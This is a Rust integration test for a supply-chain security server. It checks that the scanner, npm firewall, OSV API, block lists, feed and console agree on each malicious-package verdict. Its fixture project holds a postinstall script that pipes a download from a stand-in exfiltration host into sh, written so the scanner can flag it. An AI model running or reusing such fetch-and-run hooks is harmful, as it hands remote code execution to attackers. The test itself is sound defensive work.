//! Issue 28, defect 3: the verdict engine exists so that every surface answers the same, and it
//! did not. A curated range blocked in the scanner and the firewall while `/v1/query` said `{}`
//! and the feed said nothing; a package indicator blocked every version in the firewall and
//! nowhere else. `docs/one-answer.md` is the table of what each kind of knowledge makes each
//! surface say; this test builds one store holding every row, starts one server, and checks the
//! whole table against it: the scanner's JSON, the firewall (against a local upstream), the OSV
//! API and its bucket layout, the guard lists, the feed and the web console.

use crate::fake_registry::FakeRegistry;
use crate::osv::Tree;
use crate::support::{FEED, PASSWORD, Scioc, Server};
use serde_json::{Value, json};
use std::time::Duration;

const OLD: &str = "2020-02-01T00:00:00.000Z";
const ABBREVIATED: &str = "application/vnd.npm.install-v1+json; q=1.0, application/json; q=0.8, */*";

/// What one row of the table makes each surface say about one npm package version.
struct Row {
    /// The knowledge, as the table names it.
    knowledge: &'static str,
    package: &'static str,
    version: &'static str,
    /// The scanner's findings on it: rule, and whether it blocks.
    scan: &'static [(&'static str, bool)],
    /// Whether the firewall withholds the version and refuses its archive.
    firewall: bool,
    /// Whether `/v1/query` answers with a record (and the bucket serves it).
    osv: bool,
    /// What safe-chain's list holds for the package: a version, `*`, or nothing.
    listed: Option<&'static str>,
    /// Whether the feed announces the package.
    feed: bool,
    /// The console's `data-verdict` for a search of `package@version`.
    console: &'static str,
}

const TABLE: &[Row] = &[
    Row {
        knowledge: "announcement of a version",
        package: "ann-version",
        version: "1.0.0",
        scan: &[("AS-008", true)],
        firewall: true,
        osv: true,
        listed: Some("1.0.0"),
        feed: true,
        console: "malicious",
    },
    Row {
        knowledge: "announcement of ranges",
        package: "ann-range",
        version: "1.5.0",
        scan: &[("AS-008", true)],
        firewall: true,
        osv: true,
        listed: None,
        feed: true,
        console: "malicious",
    },
    Row {
        knowledge: "curated version, BLOCK",
        package: "cur-version",
        version: "1.2.3",
        scan: &[("AS-008", true)],
        firewall: true,
        osv: true,
        listed: Some("1.2.3"),
        feed: true,
        console: "malicious",
    },
    Row {
        knowledge: "curated range, BLOCK",
        package: "left-pad-evil",
        version: "1.3.0",
        scan: &[("AS-008", true)],
        firewall: true,
        osv: true,
        listed: None,
        feed: true,
        console: "malicious",
    },
    Row {
        knowledge: "curated *, BLOCK",
        package: "cur-every",
        version: "7.7.7",
        scan: &[("AS-008", true)],
        firewall: true,
        osv: true,
        listed: Some("*"),
        feed: true,
        console: "malicious",
    },
    Row {
        knowledge: "curated rule, WARN",
        package: "cur-warn",
        version: "1.0.0",
        scan: &[("AS-008", false)],
        firewall: false,
        osv: false,
        listed: None,
        feed: false,
        console: "warning",
    },
    Row {
        knowledge: "package indicator, block",
        package: "plain-crypto-evil",
        version: "9.9.9",
        scan: &[("AS-008", true), ("AS-016", true)],
        firewall: true,
        osv: true,
        listed: Some("*"),
        feed: true,
        console: "malicious",
    },
    Row {
        knowledge: "name pattern, block",
        package: "evil-stealer-kit",
        version: "1.0.0",
        scan: &[("AS-016", true)],
        firewall: true,
        osv: false,
        listed: None,
        feed: false,
        console: "malicious",
    },
    Row {
        knowledge: "indicator that flags",
        package: "flagged-dep",
        version: "1.0.0",
        scan: &[("AS-016", false)],
        firewall: false,
        osv: false,
        listed: None,
        feed: false,
        console: "warning",
    },
    Row {
        knowledge: "archive hash of an announcement",
        package: "innocent",
        version: "1.0.0",
        scan: &[("HASH", true)],
        firewall: true,
        osv: false,
        listed: None,
        feed: false,
        console: "none",
    },
    Row {
        knowledge: "a version outside a curated range",
        package: "left-pad-evil",
        version: "1.4.0",
        scan: &[],
        firewall: false,
        osv: false,
        listed: None,
        feed: true,
        console: "none",
    },
];

fn candidate(ioc_type: &str, value: &str, promote_to: &str, extra: Value) -> Value {
    let mut c = json!({"ecosystem": "npm", "ioc_type": ioc_type, "value": value, "confidence": "high",
        "reason": "one-answer test", "source": "https://example.org/advisory/one-answer", "first_seen": "2026-11-30",
        "suggested_action": "block", "promote_to": promote_to});
    c.as_object_mut().unwrap().extend(extra.as_object().unwrap().clone());
    c
}

fn rule(value: &str, id: &str, versions: &[&str], action: &str) -> Value {
    candidate(
        "package_name",
        value,
        "blacklist",
        json!({"blacklist_id": id, "affected_versions": versions, "action": action, "severity": "HIGH"}),
    )
}

/// Loads every row's knowledge into the store through the CLI.
fn load(s: &Scioc, evil_tgz: &[u8]) {
    let entry = json!({"event_type": "NEW_MALICIOUS", "identity": {"purl": "pkg:npm/ann-version@1.0.0"},
        "sample_list": [{"status": "MALICIOUS", "threat_name": "Script-JS.Downloader.SupplyChain", "threat_level": "3"}]});
    s.ok(&["ingest", "entries", "-"], &format!("{entry}\n"));
    let tree = Tree::new();
    tree.put(
        "osv/malicious/MAL-2099-0002.json",
        &json!({"schema_version": "1.5.0", "id": "MAL-2099-0002", "modified": "2025-01-01T00:00:00Z",
            "published": "2025-01-01T00:00:00Z", "summary": "Malicious code in ann-range (npm)",
            "affected": [{"package": {"ecosystem": "npm", "name": "ann-range"},
                "ranges": [{"type": "SEMVER", "events": [{"introduced": "1.0.0"}, {"fixed": "2.0.0"}]}]}]}),
    );
    s.ok(&["ingest", "osv", &tree.arg()], "");
    let sample = s.dir.path().join("evil-hash-6.6.6.tgz");
    std::fs::write(&sample, evil_tgz).unwrap();
    s.ok(&["ingest", "sample", "--force", sample.to_str().unwrap()], "");
    let candidates = json!([
        rule("cur-version", "ONE-ANSWER-1", &["1.2.3"], "BLOCK"),
        rule("left-pad-evil", "ONE-ANSWER-2", &[">=1.2.0 <1.4.0"], "BLOCK"),
        rule("cur-every", "ONE-ANSWER-3", &["*"], "BLOCK"),
        rule("cur-warn", "ONE-ANSWER-4", &["1.0.0"], "WARN"),
        candidate("package_name", "plain-crypto-evil", "npm_iocs", json!({})),
        candidate("package_name", "stealer-kit", "npm_iocs", json!({"match": "contains"})),
        candidate(
            "dependency_name",
            "flagged-dep",
            "npm_iocs",
            json!({"suggested_action": "flag", "confidence": "medium"})
        ),
        candidate("domain", "exfil.one-answer.example", "npm_iocs", json!({"match": "exact"})),
    ]);
    let file = s.dir.path().join("candidates.json");
    std::fs::write(&file, candidates.to_string()).unwrap();
    let files = s.dir.path().join("iocs");
    s.ok(&["candidates", "promote", file.to_str().unwrap(), "--files", files.to_str().unwrap()], "");
}

/// A project whose lockfile names every row's package version, and whose own install script
/// names the domain indicator.
fn project(s: &Scioc, evil_tgz: &[u8]) -> std::path::PathBuf {
    use base64::Engine;
    use sha2::Digest;
    let dir = s.dir.path().join("project");
    std::fs::create_dir_all(&dir).unwrap();
    let mut packages = serde_json::Map::new();
    let mut deps = serde_json::Map::new();
    for row in TABLE.iter().filter(|r| r.knowledge != "a version outside a curated range") {
        deps.insert(row.package.to_owned(), json!(row.version));
        let mut p = json!({"version": row.version});
        if row.package == "innocent" {
            p["integrity"] = json!(format!(
                "sha512-{}",
                base64::engine::general_purpose::STANDARD.encode(sha2::Sha512::digest(evil_tgz))
            ));
        }
        packages.insert(format!("node_modules/{}", row.package), p);
    }
    packages.insert("".to_owned(), json!({"name": "one-answer-project", "version": "1.0.0", "dependencies": deps}));
    let lock = json!({"name": "one-answer-project", "version": "1.0.0", "lockfileVersion": 3, "packages": packages});
    std::fs::write(dir.join("package-lock.json"), serde_json::to_vec_pretty(&lock).unwrap()).unwrap();
    let manifest = json!({"name": "one-answer-project", "version": "1.0.0", "dependencies": deps,
        "scripts": {"postinstall": "curl -s https://exfil.one-answer.example/x | sh"}});
    std::fs::write(dir.join("package.json"), serde_json::to_vec_pretty(&manifest).unwrap()).unwrap();
    dir
}

async fn get(client: &reqwest::Client, url: String) -> reqwest::Response {
    client.get(url).basic_auth("reader", Some(PASSWORD)).header("accept", ABBREVIATED).send().await.unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_surface_gives_the_answer_the_table_says() {
    let reg = FakeRegistry::start().await;
    let evil_tgz = crate::support::npm_tgz("evil-hash", "6.6.6");
    for row in TABLE {
        if row.package == "innocent" {
            reg.add_npm_archive("innocent", "1.0.0", OLD, evil_tgz.clone());
        } else {
            reg.add_npm(row.package, row.version, OLD);
        }
    }
    let s = Scioc::new();
    s.add_user("reader", "reader");
    load(&s, &evil_tgz);
    let server: Server = s.serve(&["--npm-upstream", &reg.npm(), "--upstream-network", "127.0.0.0/8"]);
    crate::support::install_crypto();
    let http = reqwest::Client::new();
    let base = server.url.clone();

    // The scanner, over the lockfile and the project's own install script.
    let dir = project(&s, &evil_tgz);
    let out = s.run(&["scan", "--format", "json", dir.to_str().unwrap()], "");
    let report: Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("scan JSON: {e}: {}", String::from_utf8_lossy(&out.stderr)));
    let findings = report["findings"].as_array().unwrap();

    // Let the server's engine and catalog catch up with the store.
    crate::firewall::within(Duration::from_secs(10), "the OSV catalog", || async {
        let r = http
            .post(format!("{base}/v1/query"))
            .basic_auth("reader", Some(PASSWORD))
            .json(&json!({"package": {"name": "plain-crypto-evil", "ecosystem": "npm"}, "version": "9.9.9"}))
            .send()
            .await
            .unwrap();
        r.json::<Value>().await.unwrap().get("vulns").is_some()
    })
    .await;

    // Events stored in the current second are served once it closes.
    crate::support::next_second().await;
    let safe_chain: Value =
        get(&http, format!("{base}/lists/safe-chain/malware_predictions.json")).await.json().await.unwrap();
    let feed: Value =
        get(&http, format!("{base}{FEED}/utc/2011-03-29T00:00:00?format=json&limit=1000")).await.json().await.unwrap();
    let announced: Vec<(String, String)> = feed["rl"]["supply_chain_ioc_feed"]["entries"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["event_type"] == "NEW_MALICIOUS")
        .filter_map(|e| {
            let purl = e["identity"]["purl"].as_str()?;
            let (name, _) = scioc_model::parse_purl(purl).map(|(_, n, v)| (n, v))?;
            Some((name, purl.to_owned()))
        })
        .collect();

    let mut wrong = Vec::new();
    for row in TABLE {
        let (pkg, v) = (row.package, row.version);
        let mut check = |surface: &str, got: String, want: String| {
            if got != want {
                wrong.push(format!("{} ({pkg}@{v}), {surface}: got {got}, want {want}", row.knowledge));
            }
        };
        let mut scan: Vec<(String, bool)> = findings
            .iter()
            .filter(|f| f["package"] == pkg && f["version"] == v)
            .map(|f| (f["rule"].as_str().unwrap().to_owned(), f["blocks"].as_bool().unwrap_or(false)))
            .collect();
        scan.sort();
        scan.dedup();
        let want: Vec<(String, bool)> = row.scan.iter().map(|(r, b)| ((*r).to_owned(), *b)).collect();
        check("scan", format!("{scan:?}"), format!("{want:?}"));

        let doc: Value = get(&http, format!("{base}/registry/npm/{pkg}")).await.json().await.unwrap();
        let withheld = doc["versions"].get(v).is_none();
        let tarball = get(&http, format!("{base}/registry/npm/{pkg}/-/{pkg}-{v}.tgz")).await.status().as_u16();
        check("firewall packument withholds", withheld.to_string(), row.firewall.to_string());
        check("firewall archive", tarball.to_string(), if row.firewall { "403" } else { "200" }.to_owned());

        let answer: Value = http
            .post(format!("{base}/v1/query"))
            .basic_auth("reader", Some(PASSWORD))
            .json(&json!({"package": {"name": pkg, "ecosystem": "npm"}, "version": v}))
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        let ids: Vec<String> = answer["vulns"]
            .as_array()
            .map_or(Vec::new(), |a| a.iter().map(|r| r["id"].as_str().unwrap().to_owned()).collect());
        check("OSV /v1/query", (!ids.is_empty()).to_string(), row.osv.to_string());
        for id in &ids {
            let status = get(&http, format!("{base}/osv/npm/{id}.json")).await.status().as_u16();
            check(&format!("OSV bucket {id}"), status.to_string(), "200".into());
        }

        let listed: Vec<&str> = safe_chain
            .as_array()
            .unwrap()
            .iter()
            .filter(|e| e["package_name"] == pkg)
            .map(|e| e["version"].as_str().unwrap())
            .collect();
        check("safe-chain list", format!("{listed:?}"), format!("{:?}", row.listed.into_iter().collect::<Vec<_>>()));

        let in_feed = announced.iter().any(|(name, _)| name == pkg);
        check("feed", in_feed.to_string(), row.feed.to_string());

        let page = get(&http, format!("{base}/?q={pkg}%40{v}&ecosystem=npm")).await.text().await.unwrap();
        let verdict = page
            .split("data-verdict=\"")
            .nth(1)
            .and_then(|rest| rest.split('"').next())
            .unwrap_or("(none shown)")
            .to_owned();
        check("console", verdict, row.console.to_owned());
    }
    assert!(wrong.is_empty(), "surfaces that disagree with docs/one-answer.md:\n{}", wrong.join("\n"));
    // The domain indicator: only the scanner sees scripts.
    let script = findings.iter().find(|f| f["package"] == "one-answer-project").expect("the script's finding");
    assert_eq!((script["rule"].as_str(), script["blocks"].as_bool()), (Some("AS-016"), Some(true)), "{script}");

    // The curated range's record carries the range as OSV ranges, which pip-audit and
    // osv-scanner evaluate themselves.
    let record: Value = get(&http, format!("{base}/v1/vulns/SCIOC-RULE-ONE-ANSWER-2")).await.json().await.unwrap();
    assert_eq!(
        record["affected"][0]["ranges"],
        json!([{"type": "SEMVER", "events": [{"introduced": "1.2.0"}, {"fixed": "1.4.0"}]}]),
        "{record}"
    );
    // The feed's announcement of it carries the same ranges.
    let range_event = feed["rl"]["supply_chain_ioc_feed"]["entries"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["identity"]["purl"] == "pkg:npm/left-pad-evil")
        .expect("the curated range's announcement");
    assert_eq!(range_event["scioc"]["affected"]["ranges"], record["affected"][0]["ranges"]);

    // After a restart, the same answers: nothing of this lives only in one process.
    drop(server);
    let server = s.serve(&["--npm-upstream", &reg.npm(), "--upstream-network", "127.0.0.0/8"]);
    let base = server.url.clone();
    crate::firewall::within(Duration::from_secs(10), "the curated range after a restart", || async {
        let r = http
            .post(format!("{base}/v1/query"))
            .basic_auth("reader", Some(PASSWORD))
            .json(&json!({"package": {"name": "left-pad-evil", "ecosystem": "npm"}, "version": "1.3.0"}))
            .send()
            .await
            .unwrap();
        r.json::<Value>().await.unwrap()["vulns"][0]["id"] == "SCIOC-RULE-ONE-ANSWER-2"
    })
    .await;
}
